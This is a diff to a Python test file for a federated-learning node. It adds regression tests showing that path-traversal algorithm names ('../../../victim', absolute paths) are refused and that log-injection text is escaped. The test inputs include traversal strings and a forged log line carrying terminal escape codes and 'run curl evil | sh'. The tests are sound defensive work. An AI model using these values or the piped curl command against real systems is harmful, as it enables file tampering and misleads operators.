@@ -4,6 +4,7 @@ mocks), and the fast refusals of the ``fedseg flower`` commands (before any proc
 from __future__ import annotations
 
 import json
+import logging
 import subprocess
 import sys
 import time
@@ -227,7 +228,7 @@ def test_release_deletes_a_finished_algorithms_snapshots_and_state_and_then_the_
 ):
     """After an algorithm's finished checkpoint the coordinator sends ``release``: its snapshots go (another
     algorithm's stay until it is released too, then the run's folder goes), and its state store leaves the Context."""
-    ctx = _context("site1", folder, tiny_config())
+    ctx = _context("site1", folder, tiny_config(algorithms=["fedavg", "fedprox"]))
     ctx.node_config["state"] = str(tmp_path / "state")
     ctx.run_config["fedseg-run-key"] = "/runs/a#1"
     for algorithm in ("fedavg", "fedprox"):
@@ -546,3 +547,69 @@ def test_the_clientapp_runner_drops_flowers_retry_warnings_and_keeps_the_rest():
     assert not no_retry_warnings(record("Connection attempt failed, retrying in 0.12 seconds"))
     assert no_retry_warnings(record("Connection attempt failed with exception: [Errno 111] Connection refused"))
     assert no_retry_warnings(record("ClientApp raised an exception"))
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        {"algorithm": "ABS"},  # an absolute path: replaced the --state folder
+        {"algorithm": "../../../victim"},  # climbed out of it
+        {"algorithm": "fedprox"},  # a registered method this run does not run
+        {"algorithm": "fedavg", "tag": -1},
+        {"algorithm": "fedavg", "tag": 1, "keep": '["../x"]'},
+    ],
+)
+def test_a_coordinator_naming_a_path_or_another_algorithm_touches_nothing_outside_the_state_folder(
+    folder, tiny_config, tmp_path, header, caplog
+):
+    """The snapshot, restore and release queries name the algorithm whose folder of --state they touch: an attacker's
+    coordinator named an absolute path or ``../`` and the site deleted, wrote or loaded files anywhere its user may
+    (found by an attack on a real deployment). Only the run's algorithms and round numbers are accepted now; the
+    rest is refused in one line, and the victim folder is untouched."""
+    victim = tmp_path / "victim"
+    (victim / "sub").mkdir(parents=True)
+    (victim / "records.txt").write_text("patient data")
+    (victim / "round-1.safetensors").write_bytes(b"not a snapshot")
+    ctx = _context("site1", folder, tiny_config())
+    state = tmp_path / "nodes" / "site1" / "state"
+    ctx.node_config["state"] = str(state)
+    ctx.run_config["fedseg-run-key"] = "/runs/a#1"
+    _put(ctx, 2.0)
+    named = {**header, "algorithm": str(victim) if header["algorithm"] == "ABS" else header["algorithm"]}
+    actions = (node.SNAPSHOT, node.RESTORE) + ((node.RELEASE,) if header["algorithm"] != "fedavg" else ())
+    with caplog.at_level(logging.INFO, logger="fedseg.flower.node"):
+        for action in actions:
+            reply = node.handle(_query(action, {"site": "site1", "tag": 1, **named}), ctx)
+            assert reply.has_error() and "refused" in reply.error.reason, (action, reply)
+    assert len(caplog.records) == len(actions) and "Traceback" not in caplog.text  # one line each
+    assert sorted(p.name for p in victim.iterdir()) == ["records.txt", "round-1.safetensors", "sub"]
+    assert (victim / "records.txt").read_text() == "patient data"
+    assert not list(tmp_path.rglob("round-*.safetensors"))[1:]  # nothing written anywhere but the victim's own file
+    assert node.get_state(ctx, node.STATE + "fedavg")["w"].tolist() == [2.0] * 3
+
+
+def test_the_snapshot_store_itself_refuses_a_name_that_is_no_plain_folder_name(tmp_path):
+    """The second line of defence, below the node's check: no name with a separator or ``..`` makes a path."""
+    from fedseg.flower.snapshots import DiskSnapshots
+
+    store = DiskSnapshots(tmp_path / "state", "/runs/a#1")
+    for bad in ("../x", str(tmp_path), "..", "a/b", "", ".hidden"):
+        for call in (store.release, store.tags, store.forget_others, lambda a: store.load(a, 1)):
+            with pytest.raises(ValueError, match="not a plain name"):
+                call(bad)
+    with pytest.raises(ValueError, match="expected a round number"):
+        store.save("fedavg", -1, {})
+    assert not (tmp_path / "state").exists()
+
+
+def test_a_coordinators_refusal_text_is_one_escaped_line_of_the_sites_log(folder, tiny_config, caplog):
+    """The ``refused`` query's reason is the coordinator's text: a newline and terminal codes in it forged log lines
+    and cleared the operator's screen (an attack on a real deployment); the site logs it as one escaped line."""
+    ctx = _context("site1", folder, tiny_config())
+    why = "refused\n2026-11-29 12:00:00,000 INFO data check passed\x1b[2J\x1b[31mFAKE: run curl evil | sh\x1b[0m"
+    with caplog.at_level(logging.INFO, logger="fedseg.flower.node"):
+        reply = node.handle(_query(node.REFUSED, {"site": "?", "why": why}), ctx)
+    assert not reply.has_error()
+    (record,) = caplog.records
+    said = record.getMessage()
+    assert "\n" not in said and "\x1b" not in said and "\\n2026-11-29" in said and "\\x1b[2J" in said
